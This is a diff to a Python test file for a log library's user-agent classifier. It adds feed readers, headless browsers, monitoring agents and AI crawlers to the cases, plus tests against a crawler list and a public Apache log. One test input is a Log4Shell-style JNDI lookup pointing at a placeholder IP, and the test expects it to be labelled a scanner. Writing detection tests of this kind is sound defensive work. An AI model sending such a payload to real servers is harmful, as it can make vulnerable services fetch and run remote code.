@@ -154,6 +154,42 @@ CASES: list[tuple[str | None, str]] = [
         "+https://webmaster.petalsearch.com/site/petalbot)",
         "search_bot",
     ),
+    # named by crawler-user-agents only (issue 16): feed readers, previews,
+    # headless browsers (browser-automation) are crawlers
+    ("FeedBurner/1.0 (http://www.FeedBurner.com)", "search_bot"),
+    ("Feedbin - 1 subscribers", "search_bot"),
+    ("Tiny Tiny RSS/1.11 (http://tt-rss.org/)", "search_bot"),
+    (
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; "
+        "Google Web Preview) Chrome/27.0.1453 Safari/537.36",
+        "search_bot",
+    ),
+    (
+        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 (KHTML, like "
+        "Gecko) PhantomJS/1.9.2 Safari/534.34",
+        "search_bot",
+    ),
+    (
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "HeadlessChrome/120.0.6099.28 Safari/537.36",
+        "search_bot",
+    ),
+    # the list's tags: monitoring, scanner, ai-crawler, http-library
+    (
+        "Mozilla/5.0 (compatible; Cloudflare-Healthchecks/1.0; "
+        "+https://www.cloudflare.com/; healthcheck-id: AAAAAAAAAAAAAAAA)",
+        "monitoring",
+    ),
+    ("binlar_2.6.3 test@mgmt.mic", "scanner"),
+    (
+        "Mozilla/5.0 (compatible; KunatoCrawler/1.0; +http://kunato.ai/bot.html)",
+        "ai_crawler",
+    ),
+    ("Mozilla/5.0 (compatible; GoParserBot/1.0)", "tool"),
+    # named by the list as a crawler, sharpened by pplog's AI patterns
+    ("YouBot (+http://www.you.com)", "ai_crawler"),
+    # a payload is a scanner whatever crawler it names
+    ("Googlebot/2.1 ${jndi:ldap://198.51.100.77/a}", "scanner"),
     # generic fallback: a self-declared crawler nobody named
     ("Mozilla/5.0 (compatible; ExampleCrawler/1.0)", "search_bot"),
     (
@@ -278,9 +314,10 @@ CASES: list[tuple[str | None, str]] = [
     ("RéseauMobile/4.2 CFNetwork/1568.200.51 Darwin/24.1.0", "tool"),
     ("Dart/3.2 (dart:io)", "tool"),
     ("Scrapy/2.11.0 (+https://scrapy.org)", "tool"),
+    # configuration management: a contact URL, but no crawler (issue 16)
     (
-        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
-        "HeadlessChrome/120.0.6099.28 Safari/537.36",
+        "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; "
+        "+http://opscode.com)",
         "tool",
     ),
     # scanners and exploit payloads
@@ -454,3 +491,66 @@ def test_sample_elb_log() -> None:
     assert by_ua[None] == "unknown"
     assert by_ua["Mozilla/5.0 zgrab/0.x"] == "scanner"
     assert by_ua["okhttp/4.12.0"] == "tool"
+
+
+CORPORA = Path(__file__).resolve().parent.parent.parent / "shared" / "corpora"
+
+
+def test_every_example_in_the_crawler_list_gets_its_entrys_class() -> None:
+    """crawler-user-agents ships example user agents for each pattern: each
+    gets the class of its entry's tags, or a sharper bot class from pplog's
+    own AI, monitoring and scanner patterns, and never `browser`/`unknown`."""
+    from pplog.enrich._crawlers import entries, entry_class
+
+    examples = [
+        (ua, entry_class(e["tags"])) for e in entries() for ua in e["instances"]
+    ]
+    assert len(examples) > 2000
+    got = classify([ua for ua, _ in examples])
+    sharpened = 0
+    for (ua, expected), cls in zip(examples, got, strict=True):
+        if cls != expected:
+            assert expected in ("search_bot", "tool"), ua
+            assert cls in ("ai_crawler", "monitoring", "scanner"), ua
+            sharpened += 1
+    assert sharpened < 20
+
+
+def test_crawler_list_tags_decide_the_class() -> None:
+    from pplog.enrich._crawlers import class_patterns, entry_class
+
+    assert entry_class(["search-engine", "ai-crawler"]) == "ai_crawler"
+    assert entry_class(["feed-reader"]) == "search_bot"
+    assert entry_class(["browser-automation"]) == "search_bot"
+    assert entry_class(["http-library"]) == "tool"
+    assert entry_class(["scanner", "academic"]) == "scanner"
+    assert entry_class(["a-tag-from-a-later-release"]) == "search_bot"
+    assert list(class_patterns()) == [
+        "scanner",
+        "monitoring",
+        "ai_crawler",
+        "search_bot",
+        "tool",
+    ]
+
+
+def test_public_apache_log_from_the_issue() -> None:
+    """Issue 16: on the 10,000-line public Apache log, the feed fetchers,
+    Google Web Preview and PhantomJS are bots, and Chef Client is a tool."""
+    log = CORPORA / "elastic-examples" / "apache_logs"
+    per_ua = (
+        pplog.read_log(log, format="combined")
+        .group_by("http_user_agent")
+        .len()
+        .with_columns(agent_class())
+    )
+
+    def requests(fragment: str) -> dict[str, int]:
+        rows = per_ua.filter(pl.col("http_user_agent").str.contains(fragment))
+        return dict(rows.group_by("agent_class").agg(pl.col("len").sum()).iter_rows())
+
+    assert requests("FeedBurner") == {"search_bot": 108}
+    assert requests("^Feedbin") == {"search_bot": 50}
+    assert requests("Google Web Preview") == {"search_bot": 7}
+    assert requests("PhantomJS") == {"search_bot": 5}
+    assert requests("^Chef Client") == {"tool": 61}
